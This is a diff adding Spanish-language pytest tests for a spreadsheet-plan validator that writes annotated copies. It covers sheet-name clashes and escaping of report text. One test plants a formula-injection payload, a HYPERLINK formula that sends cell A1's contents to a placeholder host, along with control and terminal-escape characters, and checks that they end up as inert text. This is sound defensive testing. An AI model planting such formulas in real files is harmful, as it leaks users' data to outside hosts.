@@ -104,3 +104,99 @@ def test_copia_que_perderia_el_plan_no_se_escribe(tmp_path: Path, monkeypatch) -
     assert "No se escribió la copia anotada" in text and "«PEA»" in text
     assert not dst.exists()
     assert list(tmp_path.glob(".~pea*")) == []
+
+
+def _plan_in_sheet(tmp_path: Path, title: str, extra: dict[str, list[list[str]]] | None = None,
+                   name: str = "plan.xlsx") -> Path:
+    from openpyxl import load_workbook
+
+    plain = write_plan_xlsx(demo_plans()[1], tmp_path / "base.xlsx", variant="fraccion")
+    apply_changes(plain, {"celdas": {"M10": 0.4, "N10": 0.3, "O10": 0.2, "P10": 0}})
+    wb = load_workbook(plain)
+    wb["PEA"].title = title
+    for sheet, rows in (extra or {}).items():
+        ws = wb.create_sheet(sheet)
+        for row in rows:
+            ws.append(row)
+    target = tmp_path / "entregas" / name
+    target.parent.mkdir(exist_ok=True)
+    wb.save(target)
+    return target
+
+
+def test_hoja_del_plan_llamada_validacion(tmp_path: Path) -> None:
+    """Una hoja del plan llamada «Validación» recibía PEA-E01 («no se encontró el
+    encabezado») y su copia anotada la borraba para poner el reporte en su lugar."""
+    from openpyxl import load_workbook
+
+    from pea.config import load_config
+    from pea.consolidate.annotate import annotate_copy
+    from pea.validation import validate_file
+
+    src = _plan_in_sheet(tmp_path, "Validación")
+    _p, report = validate_file(src, load_config())
+    assert report.hoja == "Validación"
+    assert [f.regla for f in report.hallazgos] == ["PEA-Q03"]
+    copy = annotate_copy(src, tmp_path / "copia.xlsx", report, "v")
+    wb = load_workbook(copy)
+    assert wb.sheetnames == ["Validación", "Validación PEA"]
+    assert wb["Validación"].max_row == load_workbook(src)["Validación"].max_row
+    assert "PEA-Q03" in wb["Validación"]["M10"].comment.text
+    links = [c.hyperlink.location for r in wb["Validación PEA"].iter_rows() for c in r
+             if c.hyperlink]
+    assert links == ["'Validación'!M10"]
+    # la copia se lee con su plan (no con el reporte) y, anotada otra vez, su reporte
+    # anterior se reemplaza en su lugar: no se acumulan hojas
+    _p, again = validate_file(copy, load_config())
+    assert again.hoja == "Validación" and again.copia_anotada is not None
+    twice = annotate_copy(copy, tmp_path / "copia2.xlsx", again, "v")
+    assert load_workbook(twice).sheetnames == ["Validación", "Validación PEA"]
+
+
+def test_hoja_validacion_de_la_dependencia_se_conserva(tmp_path: Path) -> None:
+    """Una hoja «validación» propia de la dependencia (notas, visto bueno) no se borra:
+    el reporte de PEA va en otra hoja (Excel no distingue mayúsculas en los nombres)."""
+    from openpyxl import load_workbook
+
+    from pea.config import load_config
+    from pea.consolidate.annotate import annotate_copy
+    from pea.validation import validate_file
+
+    notes = [["Visto bueno del director"], ["Firmado: Lic. Pérez"]]
+    src = _plan_in_sheet(tmp_path, "PEA", {"validación": notes})
+    _p, report = validate_file(src, load_config())
+    assert report.hoja == "PEA"
+    wb = load_workbook(annotate_copy(src, tmp_path / "copia.xlsx", report, "v"))
+    assert wb.sheetnames == ["PEA", "validación", "Validación PEA"]
+    assert [[c.value for c in r] for r in wb["validación"].iter_rows()] == notes
+
+
+def test_reporte_sin_formulas_ni_controles(tmp_path: Path) -> None:
+    """En la hoja «Validación» de la copia nada se vuelve fórmula ni vínculo (openpyxl toma
+    por fórmula todo texto que empieza con «=») y un carácter de control no impide escribir
+    la copia."""
+    from openpyxl import load_workbook
+
+    from pea.config import load_config
+    from pea.consolidate.annotate import annotate_copy
+    from pea.validation import validate_file
+
+    src = _plan_in_sheet(tmp_path, "Plan d'Obras")
+    _p, report = validate_file(src, load_config())
+    evil = '=HYPERLINK("http://ejemplo.invalid/?"&A1,"clic")'
+    report.hallazgos[0].mensaje = evil
+    report.hallazgos.append(report.hallazgos[0].model_copy(update={"mensaje": "+1\x01\x1b[2J",
+                                                                    "celda": "N10"}))
+    copy = annotate_copy(src, tmp_path / "copia.xlsx", report, "v")
+    with zipfile.ZipFile(copy) as z:
+        names = z.namelist()
+        sheets = [z.read(n) for n in names if n.startswith("xl/worksheets/sheet")]
+    assert all(b"<f>" not in x and b"<f " not in x for x in sheets)
+    wb = load_workbook(copy)
+    ws = wb["Validación"]
+    values = [c.value for r in ws.iter_rows() for c in r]
+    assert evil in values
+    assert "+1\\x01\\x1b[2J" in values
+    links = [c.hyperlink.location for r in ws.iter_rows() for c in r if c.hyperlink]
+    assert links[0] == "'Plan d''Obras'!M10"
+    assert "\\x01" in wb["Plan d'Obras"]["N10"].comment.text
